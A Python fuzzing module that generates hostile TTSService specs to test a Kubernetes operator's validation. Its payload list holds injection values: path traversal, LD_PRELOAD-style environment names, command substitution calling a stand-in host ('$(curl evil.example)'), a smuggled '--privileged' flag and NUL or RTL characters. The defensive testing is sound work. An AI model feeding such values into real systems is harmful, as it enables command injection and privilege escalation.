"""Hostile TTSService specs for the spec fuzzer (hypothesis strategies).

An example is a valid TTSService with one to four fields replaced: by the strings of
issue 10 (`..` paths, `A=B`, `LD_PRELOAD`, NUL, RTL override, `$()`), by random text, by
values of the wrong type (`"3"`, `3.5`, `true`), or by valid values, so that both
verdicts occur. tests/operator/test_spec_fuzz.py runs them through `ttsfleet render`;
e2e/test_spec_fuzz.py sends them to the real API server and compares the verdicts.
"""

from __future__ import annotations

import copy
from typing import Any

from hypothesis import strategies as st

BASE: dict[str, Any] = {
    "apiVersion": "ttsfleet.io/v1alpha1",
    "kind": "TTSService",
    "metadata": {"name": "fuzz"},
    "spec": {
        "model": {"size": "1.7B", "variant": "Base"},
        "gpu": {"class": "h100"},
        "replicas": 2,
        "spot": {
            "ratio": 0.5,
            "nodeSelector": {"example.com/pool": "spot"},
            "tolerations": [{"key": "spot"}],
        },
        "runtime": {"env": [{"name": "HF_TOKEN_FILE", "value": "/var/run/hf/token"}]},
    },
}

# Issue 10's findings and their siblings.
HOSTILE_STRINGS = [
    "../etc",
    "../../main",
    "/../../etc",
    "/models/..",
    "a/../b",
    "A=B",
    "x\ny",
    "x\n",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "PYTHONPATH",
    "GCONV_PATH",
    "NVIDIA_VISIBLE_DEVICES",
    "TTSFLEET_PORT",
    "TTSFLEET_AUTH",
    "HF_HOME",
    "Not_A/Valid..Name!",
    "../../kube-system/admin",
    "Bad_Name",
    "ghcr.io/ttsfleet/runtime:0.2.0 --privileged",
    "ghcr.io/ttsfleet/runtime:0.2.0\n",
    "$(curl evil.example)",
    "`id`",
    "ghcr.io/ttsfleet/runtime:\u202e0.2.0",
    "ghcr.io/ttsfleet/runtime\x00",
    "a\x00b",
    " ",
    "",
    "x" * 300,
    "-x",
    "x-",
    "UPPER",
    "a..b",
    "a//b",
    "/",
    "{{ .Values }}",
]
VALID_STRINGS = [
    "ok",
    "tts-a",
    "a.b",
    "main",
    "v1.0",
    "refs/pr/1",
    "/qwen/base",
    "ghcr.io/ttsfleet/runtime:0.3.0",
    "localhost:5000/tts@sha256:" + "a" * 64,
    "Qwen/Qwen3-TTS-12Hz-1.7B-Base",
    "MY_SETTING",
    "_x",
    "example.com/pool",
    "spot",
]
WRONG_TYPES: list[Any] = ["3", "true", 3.5, True, False, [], {}, ["x"], {"a": 1}]

strings = st.one_of(
    st.sampled_from(HOSTILE_STRINGS),
    st.sampled_from(VALID_STRINGS),
    st.text(max_size=24),
    st.text(alphabet="abcz09-._/:@A_", max_size=24),
)
numbers = st.one_of(st.integers(min_value=-3, max_value=1100), st.sampled_from([0.5, 1, 2, 1.5]))
values = st.one_of(strings, numbers, st.sampled_from(WRONG_TYPES))


def _set(document: dict, path: tuple, value: Any) -> None:
    """Put `value` at `path`, making (or replacing) the containers on the way."""
    node: Any = document
    for part, following in zip(path, path[1:], strict=False):
        child = _get(node, part)
        wanted = list if isinstance(following, int) else dict
        if not isinstance(child, wanted):
            child = wanted()
            _put(node, part, child)
        node = child
    _put(node, path[-1], value)


def _get(node: Any, part: Any) -> Any:
    if isinstance(node, list):
        return node[part] if part < len(node) else None
    return node.get(part)


def _put(node: Any, part: Any, value: Any) -> None:
    if isinstance(node, list):
        while len(node) <= part:
            node.append({"name": "FILLER", "value": ""})
        node[part] = value
    else:
        node[part] = value


# Where a hostile value goes, with values that are valid there (so that both verdicts occur).
STRING_PATHS: dict[tuple, list[str]] = {
    ("metadata", "name"): ["tts", "voices-2", "a" * 40],
    ("spec", "model", "revision"): ["main", "v1.0", "refs/pr/1", "0123456789abcdef"],
    ("spec", "model", "source", "hub"): ["me/tts", "Qwen/Qwen3-TTS-12Hz-1.7B-Base"],
    ("spec", "gpu", "product"): ["NVIDIA-H100-80GB-HBM3", "custom.gpu_1"],
    ("spec", "gpu", "class"): ["h200", "l4"],
    ("spec", "runtime", "image"): [
        "ghcr.io/ttsfleet/runtime:0.3.0",
        "localhost:5000/tts@sha256:" + "a" * 64,
    ],
    ("spec", "runtime", "serviceAccountName"): ["tts", "tts.runtime"],
    ("spec", "runtime", "apiKeysSecret"): ["tts-keys", "a.b"],
    ("spec", "runtime", "auth"): ["Enabled", "Disabled"],
    ("spec", "runtime", "imagePullSecrets", 0): ["regcred"],
    ("spec", "runtime", "env", 0, "name"): ["MY_SETTING", "_x", "HF_ENDPOINT"],
    ("spec", "runtime", "env", 1, "name"): ["OTHER", "HTTPS_PROXY"],
    ("spec", "runtime", "env", 0, "value"): ["anything at all\n", ""],
    ("spec", "runtime", "resources", "memory"): ["16Gi", "500M"],
    ("spec", "canary", "candidate", "image"): ["ghcr.io/ttsfleet/runtime:0.3.0"],
    ("spec", "canary", "candidate", "modelRevision"): ["v2", "refs/pr/7"],
    ("spec", "spot", "tolerations", 0, "key"): ["example.com/spot", "spot"],
    ("spec", "spot", "tolerations", 0, "value"): ["true", ""],
}
NUMBER_PATHS = [
    ("spec", "replicas"),
    ("spec", "gpu", "count"),
    ("spec", "spot", "ratio"),
    ("spec", "spot", "minOnDemand"),
    ("spec", "engine", "maxBatch"),
    ("spec", "engine", "cudaGraphs"),
    ("spec", "autoscaling", "maxReplicas"),
    ("spec", "runtime", "startupTimeoutSeconds"),
]


@st.composite
def _pvc_source(draw) -> dict:
    claim = draw(st.one_of(st.sampled_from(["models", "qwen.weights"]), strings))
    path = draw(st.one_of(st.sampled_from(["/", "/qwen/base", "/a/..b/c"]), strings))
    return {"pvc": {"claimName": claim, "path": path}}


@st.composite
def _node_selector(draw) -> dict:
    return {draw(strings): draw(strings)}


@st.composite
def hostile_documents(draw) -> dict:
    """A TTSService document with 1..3 fields replaced."""
    document = copy.deepcopy(BASE)
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        kind = draw(
            st.sampled_from(
                ["string", "string", "string", "number", "pvc", "node_selector", "duplicate"]
            )
        )
        if kind == "string":
            path = draw(st.sampled_from(sorted(STRING_PATHS, key=str)))
            valid = st.sampled_from(STRING_PATHS[path])
            _set(
                document, path, draw(st.one_of(valid, valid, strings, st.sampled_from(WRONG_TYPES)))
            )
        elif kind == "number":
            _set(
                document,
                draw(st.sampled_from(NUMBER_PATHS)),
                draw(st.one_of(numbers, numbers, values)),
            )
        elif kind == "pvc":
            document["spec"]["model"]["source"] = draw(_pvc_source())
        elif kind == "node_selector":
            document["spec"]["spot"]["nodeSelector"] = draw(_node_selector())
        else:
            env = document["spec"]["runtime"].setdefault("env", [])
            if isinstance(env, list):
                env.append({"name": "HF_TOKEN_FILE", "value": "twice"})
    return document
